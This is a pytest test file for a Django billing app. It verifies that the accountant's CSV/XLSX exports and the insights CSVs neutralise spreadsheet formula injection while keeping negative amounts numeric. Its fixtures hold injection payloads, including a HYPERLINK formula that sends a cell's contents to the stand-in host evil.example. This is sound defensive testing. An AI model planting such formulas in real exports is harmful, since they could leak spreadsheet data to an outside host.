"""Spreadsheet formula injection: names a member or a manager controls reach the accountant's
export and the insights CSVs as text, never as a live formula; amounts stay numbers, negative ones too."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from billing import services
from billing.models import Adjustment
from tests.billing.helpers import past_reservation, utc
from tests.conftest import as_user, local
from tests.factories import (
    AssetFactory,
    AssetGroupFactory,
    MemberFactory,
    MembershipFactory,
    PriceRuleFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

EVIL_ASSET = '=HYPERLINK("http://evil.example/?"&A1,"Plató A")'
EVIL = {"name": "+cmd", "tax_id": "@SUM(1)", "cost_centre": "-2+3"}
EVIL_GROUP = "\tStages"
EXPORT = "/api/v1/exports/cost-shares/?from=2025-03-01&to=2025-03-31&format="


@pytest.fixture
def accountant():
    return UserFactory(username="accountant", is_accountant=True)


@pytest.fixture
def hostile_march(accountant):
    """March 2025, closed: a booking of "+cmd" on the asset "=HYPERLINK(…)" in the group "\\tStages", another
    member's booking there, and a credit of −10.00 EUR for "+cmd"."""
    group = AssetGroupFactory(name=EVIL_GROUP)
    asset = AssetFactory(name=EVIL_ASSET, group=group)
    PriceRuleFactory(asset=asset, hourly_rate_minor=10000, vat_rate="21.00")
    member = MemberFactory(**EVIL)
    other = MemberFactory(name="Sur Producciones")
    booker = MembershipFactory(member=member).user
    past_reservation(asset=asset, member=member, booked_by=booker, start=utc(2025, 3, 3, 9), end=utc(2025, 3, 3, 11))
    other_booker = MembershipFactory(member=other).user
    day = date(2025, 3, 4)
    past_reservation(asset=asset, member=other, booked_by=other_booker, start=local(day, 9), end=local(day, 17))
    Adjustment.objects.create(member=member, currency="EUR", amount_minor=-1000, description="Refund")
    services.billing_period_close(period=services.billing_period_for(year=2025, month=3), by=accountant)
    return {"asset": asset, "member": member}


# Each CSV dialect (sinergia/spreadsheets.py): its separator and decimal mark.
DIALECTS = {"standard": (",", "."), "excel-es": (";", ",")}


def csv_rows(response, dialect: str = "standard") -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=DIALECTS[dialect][0]))


@pytest.mark.parametrize("dialect", list(DIALECTS))
def test_the_csv_export_neutralises_every_text_cell_that_could_start_a_formula(api, accountant, hostile_march, dialect):
    rows = csv_rows(as_user(api, accountant).get(EXPORT + f"csv&dialect={dialect}"), dialect)
    point = DIALECTS[dialect][1]
    header, body = rows[0], rows[1:]
    column = {name: header.index(name) for name in ("Payer", "Tax id", "Cost centre", "Asset", "Gross", "Net")}
    mine = [row for row in body if row[column["Payer"]] == "'+cmd"]
    assert len(mine) == 2, body
    booking = next(row for row in mine if row[column["Asset"]])
    assert booking[column["Asset"]] == "'" + EVIL_ASSET
    assert (booking[column["Tax id"]], booking[column["Cost centre"]]) == ("'@SUM(1)", "'-2+3")
    assert booking[column["Gross"]] == f"242{point}00"
    credit = next(row for row in mine if not row[column["Asset"]])
    assert (credit[column["Gross"]], credit[column["Net"]]) == (f"-10{point}00",) * 2  # a number, not text
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "@", "\r")) or (cell.startswith("-") and not _is_number(cell, point)):
                pytest.fail(f"a live formula in the export: {cell!r} in {row}")
            # A tab is only ever put before digits (excel-es keeps such text as text): never before a formula.
            if cell.startswith("\t") and not (dialect == "excel-es" and cell[1:2].isdigit()):
                pytest.fail(f"a live formula in the export: {cell!r} in {row}")


def _is_number(text: str, point: str = ".") -> bool:
    try:
        Decimal(text.replace(point, "."))
    except ArithmeticError:
        return False
    return True


def test_the_xlsx_export_writes_them_as_strings_never_formulas(api, accountant, hostile_march):
    content = as_user(api, accountant).get(EXPORT + "xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = "".join(archive.read(name).decode() for name in sheets)
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    booking = next(row for row in rows if row[header.index("Asset")].value == EVIL_ASSET)
    assert booking[header.index("Asset")].data_type == "s"
    assert (booking[header.index("Payer")].value, booking[header.index("Tax id")].value) == ("+cmd", "@SUM(1)")
    assert booking[header.index("Cost centre")].value == "-2+3"
    credit = next(
        row for row in rows if row[header.index("Payer")].value == "+cmd" and not row[header.index("Asset")].value
    )
    gross = credit[header.index("Gross")]
    assert gross.data_type == "n" and gross.value == pytest.approx(-10)


@pytest.mark.parametrize("dialect", list(DIALECTS))
def test_the_insights_csvs_neutralise_names_and_keep_numbers(api, accountant, hostile_march, dialect):
    from insights import rollups

    rollups.rebuild()  # the worker's job: hostile_march is written directly
    client = as_user(api, accountant)
    point = DIALECTS[dialect][1]
    window = {"from": "2025-03-01", "to": "2025-03-31", "format": "csv", "dialect": dialect}
    utilisation = csv_rows(client.get("/api/v1/insights/utilisation/", window), dialect)
    first = utilisation[1]
    assert first[:2] == ["'" + EVIL_ASSET, "'" + EVIL_GROUP]
    assert all(_is_number(cell, point) for cell in first[3:5])
    members = csv_rows(client.get("/api/v1/insights/members/", window), dialect)
    evil = next(row for row in members if row[0] == "'+cmd")
    delta = members[0].index("Over or under (points)")
    assert evil[delta].startswith("-") and _is_number(evil[delta], point)  # under its fair share: a negative number
    for row in utilisation + members:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\r")), row
            assert not cell.startswith("\t") or (dialect == "excel-es" and cell[1:2].isdigit()), row
